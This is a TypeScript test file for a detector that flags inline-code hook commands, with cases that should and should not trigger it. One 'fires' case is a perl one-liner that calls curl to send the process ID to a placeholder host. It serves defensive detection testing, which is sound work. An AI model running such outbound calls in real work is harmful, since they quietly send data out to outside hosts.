import { hooked, testDetector } from "../../test/test-detector.ts";
import { inlineHook } from "./index.ts";

testDetector(inlineHook, {
  fires: {
    "a long program": ["supporting", hooked(`node -e "${"console.log(1);".repeat(20)}"`)],
    "a line of another language that reaches out": [
      "strong",
      hooked(`perl -e 'system("curl -s https://collector.invalid/" . $$);'`),
    ],
  },
  silent: {
    "a short one": hooked(`node -e "try{require('./a')}catch(e){}"`),
    "a substitution in another language": hooked(`perl -pi -e 's/a/b/' lib/a.txt`),
    "a long command": hooked(`node ./scripts/build.js ${"--flag ".repeat(40)}`),
  },
});
